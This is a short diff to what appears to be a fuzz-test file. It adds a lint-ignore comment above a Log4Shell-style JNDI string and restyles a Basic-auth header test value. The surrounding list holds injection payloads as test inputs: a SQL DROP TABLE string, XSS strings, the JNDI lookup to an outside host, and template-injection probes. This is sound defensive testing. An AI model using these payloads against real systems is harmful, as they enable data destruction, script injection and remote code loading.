@@ -140,6 +140,7 @@ const INJECTIONS = [
   '"; DROP TABLE clients; --',
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, sent as text.
   '${jndi:ldap://x.example/a}',
   '{{7*7}}',
   '<%= 7*7 %>',
@@ -212,7 +213,7 @@ const authorization = fc.oneof(
     'Basic Og==',
     'Bearer',
     'Digest x',
-    'basic ' + Buffer.from('a:b:c').toString('base64'),
+    `basic ${Buffer.from('a:b:c').toString('base64')}`,
   ),
   anyText.map((t) => `Basic ${Buffer.from(t).toString('base64')}`),
   anyText.map((t) => `Basic ${Buffer.from(`${t}:${t}`).toString('base64')}`),
